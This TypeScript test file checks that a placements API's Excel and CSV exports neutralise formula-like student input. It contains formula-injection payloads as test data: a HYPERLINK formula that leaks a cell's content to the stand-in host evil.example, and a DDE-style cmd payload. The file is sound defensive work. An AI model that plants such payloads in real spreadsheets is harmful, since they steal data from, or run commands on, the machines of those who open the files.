import { PassThrough } from 'node:stream';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../../../test/helpers.js';
import { newStudent } from '../../../test/modules/placements.js';
import { newStreamingWorkbook, newWorkbook } from '../libraries.js';

/**
 * A student's text beginning with = + - @ (or a tab) reached the dean's Excel export as it was,
 * for Excel to take as a formula. Every workbook the API writes neutralises its text cells.
 */
let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(async () => t.close());

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")';

async function firstSheet(buf: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buf as unknown as ArrayBuffer);
  return wb.worksheets[0];
}

describe('workbook exports', () => {
  it('write a student’s formula-like text as text, and numbers as numbers', async () => {
    const s = await newStudent(t, { batch: '2036-2040', name: 'Formula Student' });
    const declared = await t.as(s.username, {
      method: 'PUT',
      url: '/api/placements/higher-studies/me',
      payload: { programme: '@SUM(1+1)', institution: HYPERLINK, admissionYear: 2040 },
    });
    expect(declared.statusCode).toBe(200);

    const res = await t.as('placement', { method: 'GET', url: '/api/placements/higher-studies.xlsx?batch=2036-2040' });
    expect(res.statusCode).toBe(200);
    const ws = await firstSheet(res.rawPayload);
    const header = ws.getRow(1).values as unknown[];
    const row = ws.getRow(2);
    const cell = (name: string) => row.getCell(header.indexOf(name)).value;
    expect(cell('Roll No')).toBe(s.username);
    expect(cell('Institution')).toBe(`'${HYPERLINK}`);
    expect(cell('Programme')).toBe("'@SUM(1+1)");
    expect(row.getCell(header.indexOf('Institution')).type).toBe(ExcelJS.ValueType.String);
    expect(cell('S.No')).toBe(1);
    expect(cell('Admission year')).toBe(2040);
  });

  it('neutralise the streaming writer’s rows and a workbook written as CSV too', async () => {
    const out = new PassThrough();
    const chunks: Buffer[] = [];
    out.on('data', (c: Buffer) => chunks.push(c));
    const ended = new Promise((r) => out.on('end', r));
    const streamed = await newStreamingWorkbook({ stream: out, useSharedStrings: false });
    const sheet = streamed.addWorksheet('S');
    sheet.addRow(['-2+3+cmd|"/C calc"!A0', 7, '-', 'plain']).commit();
    sheet.commit();
    await streamed.commit();
    await ended;
    expect((await firstSheet(Buffer.concat(chunks))).getRow(1).values).toEqual([
      undefined,
      '\'-2+3+cmd|"/C calc"!A0',
      7,
      '-',
      'plain',
    ]);

    const wb = await newWorkbook();
    wb.addWorksheet('C').addRow(['\t=1+1', -12.5, { richText: [{ text: '+1' }, { text: '+1' }] }]);
    const written = (await firstSheet(Buffer.from(await wb.xlsx.writeBuffer()))).getRow(1);
    expect([written.getCell(1).value, written.getCell(2).value]).toEqual(["'\t=1+1", -12.5]);
    const rich = written.getCell(3).value as ExcelJS.CellRichTextValue;
    expect(rich.richText.map((r) => r.text)).toEqual(["'+1", '+1']);
    const csv = await newWorkbook();
    csv.addWorksheet('C').addRow(['=1+1', 3]);
    expect((await csv.csv.writeBuffer()).toString().trim()).toBe("'=1+1,3");
  });
});
